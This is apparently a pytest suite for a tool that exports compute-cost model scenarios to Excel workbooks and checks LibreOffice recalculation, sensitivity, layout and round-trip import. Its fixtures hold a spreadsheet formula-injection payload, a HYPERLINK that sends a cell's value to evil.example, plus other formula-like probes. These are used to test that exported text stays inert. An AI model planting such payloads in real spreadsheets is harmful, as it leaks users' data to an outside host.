"""Exported workbooks, recalculated in headless LibreOffice, equal Python: every node of
every bundled scenario, after edits (including a choice), the live Sensitivity sheet, and
back into Python through import-xlsx. Plus layout, text safety and determinism."""
from __future__ import annotations

import dataclasses
import json
import math
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import networkx as nx
import numpy as np
import pytest

from flopsheet.cli import main
from flopsheet.errors import FlopsheetError
from flopsheet.evaluate import Model
from flopsheet.exports.excel import (ABOUT, INPUTS, OUTPUTS, SENSITIVITY, ExcelExportError,
                                     export_workbook, near_ties, sheet_names)
from flopsheet.exports.printer import ExcelPrintError
from flopsheet.exports.xlsx_import import read_workbook
from flopsheet.library import load_library
from flopsheet.scenario import bundled_templates, load_scenario, resolve
from flopsheet.sensitivity import Differentiator

DEFAULT = "gpt3-175b-sc21"
SCENARIOS = sorted(p.stem for p in (bundled_templates() / "scenarios").glob("*.yaml"))


@pytest.fixture(scope="module")
def lib():
    return load_library()


@pytest.fixture(scope="module")
def model(lib):
    return Model(lib)


EPOCH = "1700000000"  # SOURCE_DATE_EPOCH of the exports below: 2023-11-14
DATE = "2023-11-14"


@pytest.fixture(autouse=True)
def _fixed_date(monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)


@pytest.fixture(scope="module")
def exported(lib, model, tmp_path_factory):
    """The default scenario's workbook, exported once (tests that edit it work on copies)."""
    path = tmp_path_factory.mktemp("default") / f"{DEFAULT}.xlsx"
    return export_workbook(path, lib, load_scenario(DEFAULT), model=model, date=DATE)


def one_config(name: str):
    """The scenario, with each list of values (a sweep) pinned to its first value."""
    sc = load_scenario(name)
    for k, v in list(sc.values.items()):
        if isinstance(v.raw, list):
            sc.values[k] = dataclasses.replace(v, raw=v.raw[0])
    return sc


def mismatches(lib, values: dict, cells, result=None) -> list:
    """Names whose recalculated cell differs from Python: exact for choices, conditions and
    whole counts (unit 1), 1e-9 relative otherwise.

    With ``result`` (the Python evaluation), nodes that compare numbers equal to 13 digits
    (and what depends on them) are exempt: Python decides such a near-tie exactly, a
    spreadsheet to ~15 digits (exports flag these cells with a comment)."""
    exempt: set = set()
    if result is not None:
        for t in near_ties(lib, result):
            exempt |= {t} | nx.descendants(lib.graph, t)
    bad = []
    for n in lib.names():
        if n in exempt:
            continue
        c, v = cells[n], values[n]
        if n in lib.inputs and lib.inputs[n].is_choice:
            ok = c.text == lib.inputs[n].choices[int(np.asarray(v))]
        elif np.asarray(v).dtype == bool:
            ok = c.value is not None and c.value in (0.0, 1.0) and bool(c.value) == bool(v)
        else:
            x = float(np.asarray(v))
            if c.value is None:
                ok = False
            elif x.is_integer() and abs(x) < 2 ** 53 and lib.item(n).unit == "1":
                ok = c.value == x
            else:
                ok = math.isclose(c.value, x, rel_tol=1e-9)
        if not ok:
            bad.append((n, c, v))
    return bad


_DIFFS: dict = {}


def sensitivity_mismatches(lib, model, result, rows) -> list:
    """The live Sensitivity sheet against Python's reverse-mode gradient."""
    diff = _DIFFS.setdefault(id(model), Differentiator(model))  # compiled partials are reused
    assert rows[1][3] == "measure"
    outs = rows[1][4:]
    outs = [o for o in outs if o]
    bad = []
    checked = 0
    for j, o in enumerate(outs):
        g = diff.gradient(result, o)
        seen = set()
        for r in rows[3:]:
            if not r or not r[0] or r[0] == "notes":
                break
            name, v = r[0], r[4 + j]
            seen.add(name)
            want = g.elasticities.get(name)
            if want is None:  # only reaches the output through an overridden node:
                if v not in (None, "", 0.0):  # blank, or (output 0) its derivative, 0
                    bad.append((o, name, v, None))
                continue
            checked += 1
            if float(result[name]) == 0 or g.value == 0:
                # no elasticity at 0: the sheet shows the derivative d out / d in instead
                want = g.derivatives[name]
                assert r[3] == ("derivative" if float(result[name]) == 0 else "elasticity")
            if math.isnan(want):
                ok = not isinstance(v, float)
            else:
                # a zero derivative (the input feeds only stages off the critical path) comes out of the
                # reverse-mode sums as round-off of the output's size: ~1e-18 of it, so allow 1e-15 of it
                ok = isinstance(v, float) and math.isclose(v, want, rel_tol=1e-9,
                                                           abs_tol=max(1e-12, 1e-15 * abs(g.value)))
            if not ok:
                bad.append((o, name, v, want))
        missing = set(g.elasticities) - seen
        if missing:
            bad.append((o, "missing rows", sorted(missing)))
    assert checked > 0
    return bad


# --------------------------------------------------- every bundled scenario
def test_every_bundled_scenario_equals_python(lo, lib, model, exported, tmp_path):
    """Export each bundled scenario, recalculate, compare every node. Exports (Python, this
    process) overlap with recalculations (LibreOffice, another process): 2 cores busy."""
    from concurrent.futures import ThreadPoolExecutor
    assert DEFAULT in SCENARIOS and len(SCENARIOS) >= 2
    failures = {}
    with ThreadPoolExecutor(1) as pool:
        jobs = []
        for name in SCENARIOS:
            full = name == DEFAULT  # the live Sensitivity sheet is checked on the default
            info = exported if full else export_workbook(
                tmp_path / f"{name}.xlsx", lib, one_config(name), model=model, sensitivity=False)
            jobs.append((name, info, pool.submit(lo.recalculate, info.path,
                                                 sheets=[SENSITIVITY] if full else None)))
        for name, info, job in jobs:
            cells = job.result()
            bad = mismatches(lib, info.result.values, cells, info.result)
            if name == DEFAULT:
                bad += sensitivity_mismatches(lib, model, info.result, cells.sheets[SENSITIVITY])
                bad += info.snapshots  # every derivative is a live formula
            if bad:
                failures[name] = bad[:5]
    assert not failures, failures


def test_sweep_scenarios_need_one_configuration(lib, model, tmp_path):
    sc = load_scenario(DEFAULT, ["dp=8,16"])
    with pytest.raises(ExcelExportError, match=r"--set dp=VALUE"):
        export_workbook(tmp_path / "x.xlsx", lib, sc, model=model)


def _changes(lib, model, sc, result) -> dict:
    """Several numeric inputs doubled and every choice feeding the outputs switched."""
    need = set().union(*(lib.ancestors(o) for o in sc.report))
    out: dict = {}
    for n, inp in lib.inputs.items():
        if n not in need:
            continue
        v = result.values[n]
        if inp.is_choice:
            out[n] = inp.choices[(int(v) + 1) % len(inp.choices)]
        elif len([k for k in out if not lib.inputs[k].is_choice]) < 5:
            lo_, hi = inp.bounds
            if v != 0 and lo_ != hi and (hi is None or 2 * v <= hi):
                out[n] = 2 * float(v)
    # keep only choices Python can evaluate (some combinations may be refused by the model)
    for n in [k for k in out if lib.inputs[k].is_choice]:
        try:
            model.evaluate({**resolve(sc, model), **_encode(model, out)})
        except FlopsheetError:
            del out[n]
    return out


def _encode(model, raw: dict) -> dict:
    return {k: model.encode(k, v) for k, v in raw.items()}


def test_changed_inputs_including_a_choice_recalculate_like_python(lo, lib, model, exported):
    sc = load_scenario(DEFAULT)
    info = exported
    changes = _changes(lib, model, sc, info.result)
    assert any(lib.inputs[k].is_choice for k in changes), changes
    assert sum(not lib.inputs[k].is_choice for k in changes) >= 3, changes
    cells = lo.recalculate(info.path, changes, sheets=[SENSITIVITY])
    py = model.evaluate({**resolve(sc, model), **_encode(model, changes)})
    assert not mismatches(lib, py.values, cells, py)
    moved = [o for o in sc.report if py.values[o] != info.result.values[o]]
    assert moved, "the edits changed none of the outputs"
    assert not sensitivity_mismatches(lib, model, py, cells.sheets[SENSITIVITY])


# ------------------------------------------------------ recalculation proof
def _sheet_xml(z: zipfile.ZipFile, title: str) -> str:
    wbx = z.read("xl/workbook.xml").decode()
    rels = z.read("xl/_rels/workbook.xml.rels").decode()
    for m in re.finditer(r"<(?:\w+:)?sheet\b[^>]*>", wbx):
        tag = m.group(0)
        if re.search(r'name="%s"' % re.escape(title), tag):
            rid = re.search(r'r:id="([^"]+)"', tag).group(1)
            for rm in re.finditer(r"<Relationship\b[^>]*>", rels):
                if f'Id="{rid}"' in rm.group(0):
                    target = re.search(r'Target="([^"]+)"', rm.group(0)).group(1)
                    return target.lstrip("/") if target.startswith("/xl/") else "xl/" + target
    raise KeyError(title)


def _rewrite(src: Path, dst: Path, member: str, fn) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == member:
                data = fn(data.decode()).encode()
            zout.writestr(item, data)


def test_libreoffice_really_recalculates(lo, lib, exported, tmp_path):
    from openpyxl import load_workbook
    info = exported
    # 1. every formula cell carries Python's value as its cached value (a viewer that never
    #    recalculates shows numbers); steps 2-3 prove LibreOffice recomputes them anyway
    with zipfile.ZipFile(info.path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist()
                      if n.startswith("xl/worksheets/sheet"))
    formula_cells = re.findall(r"<c [^>]*>\s*<f>.*?</f>\s*(<v>[^<]*</v>|<v\s*/>)?", xml)
    assert len(formula_cells) >= len(lib.nodes)
    assert all(v.startswith("<v>") for v in formula_cells), "a formula cell has no cached value"
    # 2. a copy saved by LibreOffice carries cached values; read them independently of UNO
    saved = tmp_path / "saved.xlsx"
    lo.recalculate(info.path, save_as=saved)
    target = "step_time" if "step_time" in lib.nodes else lib.order[-1]
    other = next(n for n in reversed(lib.order) if n != target and n not in info.result.overridden
                 and not lib.nodes[n].is_bool)
    cached = load_workbook(saved, data_only=True)
    for n in (target, other):
        sheet, coord = info.cells[n]
        assert math.isclose(cached[sheet][coord].value, float(info.result[n]), rel_tol=1e-9)
    # 3. corrupt one cached value and delete another: a recalculation must repair both
    sheet, coord = info.cells[target]
    osheet, ocoord = info.cells[other]
    with zipfile.ZipFile(saved) as z:
        member, omember = _sheet_xml(z, sheet), _sheet_xml(z, osheet)

    def tamper(text, cell, how):
        pat = re.compile(r'(<c r="%s"[^>]*>\s*<f[^>]*>[^<]*</f>\s*)<v>[^<]*</v>' % cell)
        assert pat.search(text), cell
        return pat.sub(lambda m: m.group(1) + how, text, count=1)

    stale = tmp_path / "stale.xlsx"
    if member == omember:
        _rewrite(saved, stale, member, lambda t: tamper(tamper(t, coord, "<v>12345</v>"),
                                                         ocoord, ""))
    else:
        mid = tmp_path / "mid.xlsx"
        _rewrite(saved, mid, member, lambda t: tamper(t, coord, "<v>12345</v>"))
        _rewrite(mid, stale, omember, lambda t: tamper(t, ocoord, ""))
    assert load_workbook(stale, data_only=True)[sheet][coord].value == 12345
    cells = lo.recalculate(stale)
    assert cells[target].value != 12345
    assert not mismatches(lib, info.result.values, cells)


def test_cached_values_equal_libreoffice_and_sensitivity_has_no_errors(lo, lib, exported,
                                                                       tmp_path):
    """Every formula cell's cached value (written from Python at export) equals the value
    LibreOffice computes for it, on every sheet; the recalculated Sensitivity sheet holds no
    error; a zero-valued input gets a derivative, not an elasticity."""
    from openpyxl import load_workbook
    info = exported
    saved = tmp_path / "saved.xlsx"
    lo.recalculate(info.path, save_as=saved)
    ours = load_workbook(info.path, data_only=True)
    theirs = load_workbook(saved, data_only=True)
    formulas = load_workbook(info.path)
    bad, n = [], 0
    for ws in formulas.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type != "f":
                    continue
                n += 1
                a = ours[ws.title][c.coordinate].value
                b = theirs[ws.title][c.coordinate].value
                if isinstance(a, (int, float)) and isinstance(b, (int, float)) \
                        and not isinstance(a, bool):
                    if not math.isclose(a, b, rel_tol=1e-9, abs_tol=1e-12):
                        bad.append((ws.title, c.coordinate, a, b))
                elif a != b:
                    bad.append((ws.title, c.coordinate, a, b))
    assert n > 5000 and not bad, bad[:10]
    sens = theirs[SENSITIVITY]
    errors = [c.coordinate for row in sens.iter_rows() for c in row
              if isinstance(c.value, str) and c.value.startswith("#")]
    assert not errors
    # a zero-valued input (an fp8 peak on an A100) shows its derivative, flagged as such
    rows = {r[0].value: r for r in sens.iter_rows(min_row=4) if r[0].value}
    zero = next(k for k, r in rows.items() if r[1].value == 0 and r[3].value == "derivative")
    assert zero


def test_number_formats_follow_units_and_names_fit(lib, exported):
    from openpyxl import load_workbook
    info = exported
    wb = load_workbook(info.path)
    cell = lambda n: wb[info.cells[n][0]][info.cells[n][1]]  # noqa: E731
    assert cell("mfu").number_format == "0.0%"
    assert cell("seq_len").number_format == "#,##0"  # a whole-number input
    row = cell("step_time").row
    shown = wb[info.cells["step_time"][0]].cell(row=row, column=4)
    assert shown.number_format.endswith('" s"') and shown.value.startswith("=step_time")
    row = cell("step_pp_comm_time").row
    assert wb[info.cells["step_pp_comm_time"][0]].cell(row=row, column=4).number_format \
        .endswith('" ms"')
    # full names: the name column is as wide as the longest name on the sheet
    for ws in wb.worksheets:
        if ws.title in (ABOUT, "Charts", "Lists"):
            continue
        longest = max((len(str(c.value)) for c in ws["A"][1:] if c.value), default=0)
        assert ws.column_dimensions["A"].width >= longest, ws.title
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.max_row <= 2 or ws.print_title_rows == "$1:$2", ws.title
    # index nodes show their labels beside the code (a live CHOOSE, cached)
    outputs = load_workbook(info.path, data_only=True)[OUTPUTS]
    shown = {r[0]: r[3] for r in outputs.iter_rows(min_row=3, values_only=True) if r[0]}
    assert shown["tp_allreduce_auto_algorithm"] == "ring"
    assert shown["dp_allreduce_auto_algorithm"] == "tree"
    # a chart sheet with the step-time breakdown
    charts = wb["Charts"]
    assert charts._charts and charts["A3"].value.startswith("step_time")
    rows = range(4, 4 + next(i for i in range(64) if charts.cell(row=4 + i, column=1).value is None))
    parts = [charts.cell(row=r, column=1).value for r in rows]
    assert parts[0] == "step_compute_time" and "step_embedding_comm_time" in parts
    cached = load_workbook(info.path, data_only=True)["Charts"]
    total = sum(cached.cell(row=r, column=2).value for r in rows)
    assert math.isclose(total, float(info.result["step_time"]), rel_tol=1e-12)


def test_workbook_prints_on_a_few_pages_per_sheet(lo, exported, tmp_path):
    """Printed (LibreOffice PDF export, print setup as saved): fit to the page width, so a
    sheet takes a page or two, not hundreds."""
    from openpyxl import load_workbook
    from flopsheet.exports.recalc import find_soffice
    info = exported
    profile = tmp_path / "profile"
    subprocess.run([find_soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), str(info.path)],
                   capture_output=True, timeout=600, check=True)
    pdf = (tmp_path / info.path.with_suffix(".pdf").name).read_bytes()
    pages = len(re.findall(rb"/Type\s*/Page[^s]", pdf))
    visible = [ws for ws in load_workbook(info.path).worksheets if ws.sheet_state == "visible"]
    assert len(visible) <= pages <= 2 * len(visible), (pages, len(visible))


def test_import_keeps_use_sources_and_units(lib, model, exported, tmp_path):
    import yaml
    from openpyxl import load_workbook
    info = exported
    wb = load_workbook(info.path)
    sheet, coord = info.cells["dp"]
    wb[sheet][coord].value = 32
    sheet, coord = info.cells["hbm_capacity"]
    wb[sheet][coord].value = 96 * 2 ** 30
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)
    imp = read_workbook(edited, lib, model)
    assert sorted(imp.changed) == ["dp", "hbm_capacity"]
    data = yaml.safe_load(imp.yaml())
    original = yaml.safe_load((bundled_templates() / "scenarios" / f"{DEFAULT}.yaml").read_text())
    assert data["use"] == original["use"] and data["report"] == original["report"]
    assert data["values"]["dp"]["value"] == 32
    hbm = data["values"]["hbm_capacity"]["value"]  # in the unit the preset used (80 GB)
    assert hbm.endswith(" GB") and model.encode("hbm_capacity", hbm) == 96 * 2 ** 30
    for k, v in original["values"].items():  # untouched values as written, with sources
        if k != "dp":
            assert data["values"][k] == v
    y = tmp_path / "e.yaml"
    y.write_text(imp.yaml())
    res = model.evaluate(resolve(load_scenario(str(y)), model))
    assert res.values["dp"] == 32 and res.values["hbm_capacity"] == 96 * 2 ** 30


# ------------------------------------------------------------ small library
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEST_LIB = {
    "hw/chip.yaml": f"""
        doc: "@SUM(1,2) a sheet doc that looks like a formula"
        inputs:
          clock:
            unit: 1/s
            default: 1.5e9
            bounds: [0, null]
            doc: '{HOSTILE}'
            source: "+1+2"
          lanes:
            unit: "1"
            default: 12
            bounds: [1, 64]
            integer: true
            doc: "-3 lanes"
            source: "@cmd"
          target_rate:
            unit: 1/s
            default: 1e10
            bounds: [0, null]
            doc: Rate to beat.
            source: test
          shift:
            unit: "1"
            default: -2.5
            doc: A signed offset.
            source: test
          op_mode:
            choices: [slow, fast, turbo]
            default: fast
            doc: Operating mode.
            source: test
        nodes:
          ops_per_s:
            expr: clock*lanes*select(op_mode, slow=1, fast=2, turbo=4)
            unit: 1/s
            display: 1/ms
            doc: "=1+1"
            source: "-derived"
          waves:
            expr: ceil(shift) + floor(shift) + shift % 2 + -lanes**2 + (-lanes)**2 + 2**-lanes
            unit: "1"
            doc: Spreadsheet grammar corner cases.
            source: test
          wide:
            expr: if_(lanes > 8 and not (shift >= 0) or lanes == 1, max(lanes, 3), min(lanes, 3))
            unit: "1"
            doc: Conditions.
            source: test
          fast_enough:
            expr: ops_per_s >= target_rate
            unit: bool
            doc: A condition node.
            source: test
          budget:
            expr: if_(fast_enough, log(ops_per_s/target_rate) + log2(lanes) + sqrt(lanes) + exp(shift) + abs(shift), 0)
            unit: "1"
            doc: Uses a condition node.
            source: test
    """,
}


@pytest.fixture
def small(write_lib):
    return load_library(write_lib(TEST_LIB))


def test_small_library_workbook(lo, small, tmp_path):
    from openpyxl import load_workbook
    m = Model(small)
    info = export_workbook(tmp_path / "s.xlsx", small, None, model=m,
                           outputs=["ops_per_s", "budget", "fast_enough"])
    wb = load_workbook(info.path)
    assert wb.sheetnames[:3] == [OUTPUTS, INPUTS, "hw-chip"]
    assert wb.sheetnames[-1] == ABOUT
    ws = wb["hw-chip"]
    sheet, coord = info.cells["waves"]
    assert ws[coord].value == ("=_xlfn.CEILING.MATH(shift)+_xlfn.FLOOR.MATH(shift)+MOD(shift,2)"
                               "+(-(lanes^2))+(-lanes)^2+2^(-lanes)")
    assert ws[info.cells["ops_per_s"][1]].value == (
        '=clock*lanes*IF(op_mode="slow",1,IF(op_mode="fast",2,4))')
    inp = wb[INPUTS]
    assert inp.freeze_panes == "B3" and inp.auto_filter.ref.startswith("A2:")
    dv = [d for d in inp.data_validations.dataValidation if d.type == "list"]
    assert dv and dv[0].formula1 == '"slow,fast,turbo"'
    assert str(dv[0].sqref) == info.cells["op_mode"][1]
    assert inp[info.cells["lanes"][1]].style == "Input"
    assert {d.name for d in wb.defined_names.values()} >= set(small.names())
    # LibreOffice agrees with Python for every choice
    for choice in small.inputs["op_mode"].choices:
        vals = {"op_mode": m.encode("op_mode", choice)}
        cells = lo.recalculate(info.path, {"op_mode": choice})
        assert not mismatches(small, m.evaluate(vals).values, cells), choice


def test_text_that_looks_like_a_formula_stays_text(lo, small, tmp_path):
    from openpyxl import load_workbook
    info = export_workbook(tmp_path / "h.xlsx", small, None)
    wb = load_workbook(info.path)
    hostile = {HOSTILE, "+1+2", "-3 lanes", "@cmd", "=1+1", "-derived",
               "@SUM(1,2) a sheet doc that looks like a formula"}
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in hostile:
                    found[c.value] = c
    assert set(found) == hostile
    assert all(c.data_type == "s" for c in found.values())
    with zipfile.ZipFile(info.path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/"))
    assert "HYPERLINK" not in "".join(re.findall(r"<f>(.*?)</f>", xml))
    # LibreOffice reads them back as the same text, not as computed values
    sheet = found[HOSTILE].parent.title
    cells = lo.recalculate(info.path, sheets=[sheet, "hw-chip"])
    texts = {v for rows in cells.sheets.values() for r in rows for v in r if isinstance(v, str)}
    assert hostile <= texts


def test_overridden_node_is_an_input_styled_number(lo, small, tmp_path):
    from openpyxl import load_workbook
    scen = tmp_path / "sc.yaml"
    scen.write_text("doc: override test\nvalues:\n  ops_per_s: 5e9\n  op_mode: turbo\n"
                    "report: [ops_per_s, budget]\n")
    sc = load_scenario(str(scen))
    m = Model(small)
    info = export_workbook(tmp_path / "o.xlsx", small, sc, model=m)
    sheet, coord = info.cells["ops_per_s"]
    c = load_workbook(info.path)[sheet][coord]
    assert c.data_type == "n" and c.value == 5e9 and c.style == "Input"
    assert "replaces the formula =clock*lanes" in c.comment.text
    cells = lo.recalculate(info.path, sheets=[SENSITIVITY])
    assert not mismatches(small, info.result.values, cells)
    assert cells["fast_enough"].value == 0.0  # 5e9 < 1e10: the override flows downstream
    assert not sensitivity_mismatches(small, m, info.result, cells.sheets[SENSITIVITY])


def test_unprintable_formula_names_the_node(small, tmp_path):
    import ast
    small.nodes["wide"].parsed.tree = ast.parse("lanes[0]", mode="eval").body
    with pytest.raises(ExcelPrintError) as e:
        export_workbook(tmp_path / "u.xlsx", small, None)
    assert e.value.node == "wide" and e.value.file.endswith("chip.yaml") and e.value.line


def test_choices_differing_only_in_case_are_refused(write_lib, tmp_path):
    lib = load_library(write_lib({"a.yaml": """
        doc: case test
        inputs:
          precision:
            choices: [fp8, FP8]
            default: fp8
            doc: Precision.
            source: test
        nodes:
          width:
            expr: select(precision, fp8=1, FP8=2)
            unit: "1"
            doc: Width.
            source: test
    """}))
    with pytest.raises(ExcelPrintError, match="case"):
        export_workbook(tmp_path / "c.xlsx", lib, None)


def test_sheet_names_are_short_unique_and_safe(write_lib):
    body = "doc: d\ninputs:\n  {n}:\n    unit: '1'\n    default: 1\n    doc: d\n    source: s\n"
    lib = load_library(write_lib({
        "about.yaml": body.format(n="v_one"),
        "inputs.yaml": body.format(n="v_two"),
        "a/very/long/topic/name/that/goes/past/thirty_one.yaml": body.format(n="v_three"),
        "a/very/long/topic/name/that/goes/past/thirty_two.yaml": body.format(n="v_four"),
    }))
    names = list(sheet_names(lib).values())
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)
    assert len({n.lower() for n in names}) == len(names)
    assert not {n.lower() for n in names} & {"about", "inputs", "outputs", "sensitivity"}


# ------------------------------------------------------------- determinism
def _contents(path: Path) -> dict:
    from openpyxl import load_workbook
    wb = load_workbook(path)
    out = {"sheets": wb.sheetnames,
           "names": sorted((d.name, d.attr_text) for d in wb.defined_names.values())}
    for ws in wb.worksheets:
        out[ws.title] = [(c.coordinate, c.value, c.data_type, c.number_format, c.style,
                          c.comment.text if c.comment else None)
                         for row in ws.iter_rows() for c in row if c.value is not None]
        out[ws.title + "/dv"] = sorted((str(d.sqref), d.type, d.formula1, d.formula2)
                                       for d in ws.data_validations.dataValidation)
        out[ws.title + "/view"] = (ws.freeze_panes, ws.auto_filter.ref)
    return out


def test_two_exports_have_the_same_cells(exported, tmp_path):
    ca = _contents(exported.path)
    # the other export: another process, another hash seed, through the command line
    c = tmp_path / "c.xlsx"
    env = dict(os.environ, PYTHONHASHSEED="12345", SOURCE_DATE_EPOCH=EPOCH)
    r = subprocess.run([sys.executable, "-m", "flopsheet.cli", "export", DEFAULT, "-o", str(c)],
                       capture_output=True, text=True, env=env, timeout=300)
    assert r.returncode == 0, r.stderr
    assert ca == _contents(c)
    assert c.read_bytes() == exported.path.read_bytes()  # same date: the same bytes


# ------------------------------------------------------------- import-xlsx
def test_import_round_trip_unchanged(lib, model, exported, tmp_path):
    sc = load_scenario(DEFAULT)
    info = exported
    imp = read_workbook(info.path, lib, model)
    assert not imp.overrides and not imp.warnings and imp.report == sc.report
    y = tmp_path / "back.yaml"
    y.write_text(imp.yaml())
    sc2 = load_scenario(str(y))
    res2 = model.evaluate(resolve(sc2, model))
    for n in lib.names():
        assert np.array_equal(res2.values[n], info.result.values[n]), n
    assert sc2.report == sc.report


def test_import_after_edits_in_the_workbook_matches_libreoffice(lo, lib, model, exported,
                                                                tmp_path):
    from openpyxl import load_workbook
    sc = load_scenario(DEFAULT)
    info = exported
    changes = _changes(lib, model, sc, info.result)
    wb = load_workbook(info.path)
    for k, v in changes.items():
        sheet, coord = info.cells[k]
        wb[sheet][coord].value = v
    # an architect types a number over a formula, and a value with a unit
    node = next(n for n in lib.order if n in lib.ancestors(sc.report[-1])
                and not lib.nodes[n].is_bool and float(info.result[n]) != 0)
    sheet, coord = info.cells[node]
    wb[sheet][coord].value = 1.5 * float(info.result[node])
    # and edits a formula, which cannot come back (warned about, YAML formula kept)
    edited_node = next(n for n in reversed(lib.order) if n != node and not lib.nodes[n].is_bool)
    sheet, coord = info.cells[edited_node]
    wb[sheet][coord].value = wb[sheet][coord].value + "*2"
    byte_input = next((n for n, i in lib.inputs.items() if i.unit == "byte" and n not in changes
                       and (i.bounds[1] is None or i.bounds[1] >= 2 ** 30)
                       and (i.bounds[0] is None or i.bounds[0] <= 2 ** 30)), None)
    if byte_input:
        sheet, coord = info.cells[byte_input]
        wb[sheet][coord].value = "1 GiB"
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)

    imp = read_workbook(edited, lib, model)
    assert imp.overrides == [node]
    assert [w for w in imp.warnings if "edited" in w and edited_node in w]
    y = tmp_path / "edited.yaml"
    y.write_text(imp.yaml())
    py = model.evaluate(resolve(load_scenario(str(y)), model))
    for k, v in changes.items():
        assert py.values[k] == model.encode(k, v)
    if byte_input:
        assert py.values[byte_input] == 2 ** 30
        cells = lo.recalculate(edited, {byte_input: 2 ** 30})  # LibreOffice keeps "1 GiB" text
    else:
        cells = lo.recalculate(edited)
    exempt = {edited_node} | nx.descendants(lib.graph, edited_node)
    assert not [m for m in mismatches(lib, py.values, cells, py) if m[0] not in exempt]


def test_import_refuses_bad_cells(lib, model, exported, tmp_path):
    from openpyxl import load_workbook
    info = exported
    choice = next(n for n, i in lib.inputs.items() if i.is_choice)
    wb = load_workbook(info.path)
    sheet, coord = info.cells[choice]
    wb[sheet][coord].value = "no_such_choice"
    wb.save(tmp_path / "bad.xlsx")
    with pytest.raises(FlopsheetError) as e:
        read_workbook(tmp_path / "bad.xlsx", lib, model)
    assert e.value.node == choice and "no_such_choice" in e.value.detail


# --------------------------------------------------------------------- CLI
def test_cli_export_run_and_import(capsys, tmp_path, lib, model):
    out = tmp_path / "e.xlsx"
    assert main(["export", DEFAULT, "-o", str(out), "--no-sensitivity"]) == 0
    assert out.is_file() and "wrote" in capsys.readouterr().out
    j = tmp_path / "r.xlsx"
    assert main(["run", DEFAULT, "--xlsx", str(j), "--json"]) == 0
    cap = capsys.readouterr()
    ran = json.loads(cap.out)
    assert j.is_file() and "wrote" in cap.err
    y = tmp_path / "back.yaml"
    assert main(["import-xlsx", str(j), "-o", str(y)]) == 0
    capsys.readouterr()
    assert main(["run", str(y), "--json"]) == 0
    again = json.loads(capsys.readouterr().out)
    assert again["outputs"] == ran["outputs"]
    assert main(["import-xlsx", str(j)]) == 0
    assert "values:" in capsys.readouterr().out
    assert main(["export", DEFAULT, "--set", "dp=8,16", "-o", str(tmp_path / "x.xlsx")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("flopsheet: error:") and "\n" not in err
    assert main(["import-xlsx", str(tmp_path / "missing.xlsx")]) == 2


def test_presets_given_with_use_stay_presets_through_export_and_import(capsys, tmp_path):
    """An export with --use records the presets (About sheet, `--use`); the imported scenario lists them in
    its `use:` - their values keep their datasheet citations rather than reading as workbook edits - and a
    value of the file's own that a preset overrode is carried with the preset's value and source; a --set
    value is cited as one."""
    mine = tmp_path / "mine.yaml"
    mine.write_text("doc: a scenario\nuse: [scenarios/sc21-table1-1.7b]\nvalues:\n"
                    "  gemm_efficiency: {value: 0.5, source: mine}\n  tp: 2\n")
    book, back = tmp_path / "w.xlsx", tmp_path / "back.yaml"
    assert main(["export", str(mine), "--use", "hardware/b200", "--set", "micro_batch=2", "-o", str(book),
                 "--no-sensitivity"]) == 0
    assert main(["import-xlsx", str(book), "-o", str(back)]) == 0
    cap = capsys.readouterr()
    assert "1 changed: micro_batch" in cap.out + cap.err
    import yaml
    data = yaml.safe_load(back.read_text())
    assert data["use"] == ["scenarios/sc21-table1-1.7b", "hardware/b200"]
    assert data["values"]["gemm_efficiency"]["value"] == 0.54
    assert "Blackwell" in data["values"]["gemm_efficiency"]["source"]
    assert "hbm_capacity" not in data["values"] and data["values"]["tp"] == 2
    assert data["values"]["micro_batch"] == {"value": 2, "source": "set on the command line of the export (--set)"}
    runs = []
    for argv in (["run", str(back)], ["run", str(mine), "--use", "hardware/b200", "--set", "micro_batch=2"]):
        assert main([*argv, "--json", "--outputs", "step_time,gemm_efficiency,hbm_capacity"]) == 0
        runs.append(json.loads(capsys.readouterr().out)["outputs"])
    assert runs[0] == runs[1]


# ----------------------------------------------------------------- helpers
def test_recalc_availability_reports_a_reason(monkeypatch):
    import flopsheet.exports.recalc as rc
    monkeypatch.setenv("FLOPSHEET_SOFFICE", "/nonexistent/soffice")
    ok, why = rc.availability()
    assert not ok and "soffice" in why
    with pytest.raises(rc.RecalcError):
        rc.LibreOffice()


def test_near_ties_are_flagged_in_the_workbook(lo, write_lib, tmp_path):
    from openpyxl import load_workbook
    lib = load_library(write_lib({"t.yaml": """
        doc: near-tie test
        inputs:
          x_in:
            unit: "1"
            default: 0.1
            doc: x.
            source: test
          y_in:
            unit: "1"
            default: 0.2
            doc: y.
            source: test
          z_in:
            unit: "1"
            default: 0.3
            doc: z.
            source: test
        nodes:
          tie_branch:
            expr: if_(x_in + y_in == z_in, 1, 2)
            unit: "1"
            doc: 0.1 + 0.2 == 0.3 is false in IEEE arithmetic, true to 15 digits.
            source: test
          clear_branch:
            expr: if_(x_in + y_in < 2*z_in, 1, 2)
            unit: "1"
            doc: No tie.
            source: test
    """}))
    info = export_workbook(tmp_path / "t.xlsx", lib, None)
    assert list(info.near_ties) == ["tie_branch"]
    sheet, coord = info.cells["tie_branch"]
    wb = load_workbook(info.path)
    assert "Near-tie" in wb[sheet][coord].comment.text
    assert wb[sheet][info.cells["clear_branch"][1]].comment is None
    about = {a: b for a, b in wb[ABOUT].iter_rows(min_row=2, max_col=2, values_only=True)}
    assert about["near-ties"].startswith("tie_branch")
    cells = lo.recalculate(info.path)
    # the engine compares as LibreOffice does, so both take the same branch
    assert info.result["tie_branch"] == 1 and cells["tie_branch"].value == 1
    assert not mismatches(lib, info.result.values, cells)  # no exemption needed any more
